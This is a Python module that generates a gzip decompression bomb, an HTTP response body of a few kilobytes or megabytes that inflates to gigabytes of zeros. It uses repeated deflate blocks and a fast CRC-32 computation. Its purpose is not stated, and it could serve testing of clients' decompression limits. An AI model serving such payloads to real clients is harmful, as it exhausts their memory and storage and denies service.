"""A gzip bomb: a small ``Content-Encoding: gzip`` body that inflates to a huge one.

Compressing a gigabyte of zeros would cost a second of CPU on the event loop, so the body is
assembled instead. One mebibyte of zeros is deflated once, from a fresh compressor and ended by
a sync flush: the result is a run of complete, byte-aligned deflate blocks whose back-references
stay inside themselves, so the same bytes repeated k times are a valid deflate stream for k
mebibytes of zeros (about 1 KiB each, the ~1000:1 ceiling of deflate). An empty final block and
the gzip trailer close it. The trailer's CRC-32 of n zero bytes is computed in O(log n) with
zlib's GF(2) matrix method (``crc32_combine``) rather than by hashing the gigabyte.
"""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Iterator

_MIB = 1 << 20
# gzip member header: magic, deflate, no flags, mtime 0, max compression, unknown OS (RFC 1952).
_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
# A final, empty block with fixed Huffman codes: ends the deflate stream (RFC 1951 3.2.6).
_FINAL_BLOCK = b"\x03\x00"
# Blocks per write: about 64 KiB of compressed bytes, so a write is neither tiny nor huge.
_BLOCKS_PER_WRITE = 64
_CRC_POLY = 0xEDB88320  # CRC-32 (IEEE 802.3), reflected


@functools.lru_cache(maxsize=16)
def _deflated_zeros(size: int) -> bytes:
    """Deflate ``size`` zero bytes into self-contained, byte-aligned, non-final blocks."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(bytes(size)) + compressor.flush(zlib.Z_SYNC_FLUSH)


def _gf2_apply(matrix: list[int], vector: int) -> int:
    """Multiply a 32x32 GF(2) matrix (one int per column) by a 32-bit vector."""
    result = 0
    column = 0
    while vector:
        if vector & 1:
            result ^= matrix[column]
        vector >>= 1
        column += 1
    return result


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_apply(matrix, column) for column in matrix]


def crc32_of_zeros(count: int) -> int:
    """Return ``zlib.crc32(bytes(count))`` without building the bytes.

    Args:
        count: How many zero bytes.

    Returns:
        The CRC-32 of that many zero bytes.
    """
    # The CRC register after a zero bit is a linear function of the register before it:
    # bit 0 feeds the polynomial, every other bit shifts down one place.
    operator = [_CRC_POLY] + [1 << bit for bit in range(31)]
    for _ in range(3):  # one zero bit -> one zero byte
        operator = _gf2_square(operator)
    register = 0xFFFFFFFF  # zlib's pre-inversion of the initial value 0
    while count:
        if count & 1:
            register = _gf2_apply(operator, register)
        operator = _gf2_square(operator)
        count >>= 1
    return register ^ 0xFFFFFFFF


def gzip_bomb_length(size: int) -> int:
    """Return the compressed length, in bytes, of the bomb that inflates to ``size`` bytes."""
    full, rest = divmod(size, _MIB)
    tail = len(_deflated_zeros(rest)) if rest else 0
    return len(_HEADER) + full * len(_deflated_zeros(_MIB)) + tail + len(_FINAL_BLOCK) + 8


def gzip_bomb_chunks(size: int) -> Iterator[bytes]:
    """Yield the gzip member, in chunks of about 64 KiB, that inflates to ``size`` zero bytes.

    Args:
        size: The decoded size in bytes.

    Yields:
        Consecutive pieces of the compressed body; their total is ``gzip_bomb_length(size)``.
    """
    full, rest = divmod(size, _MIB)
    block = _deflated_zeros(_MIB)
    yield _HEADER
    while full:
        count = min(full, _BLOCKS_PER_WRITE)
        yield block * count
        full -= count
    if rest:
        yield _deflated_zeros(rest)
    yield _FINAL_BLOCK + struct.pack("<II", crc32_of_zeros(size), size & 0xFFFFFFFF)
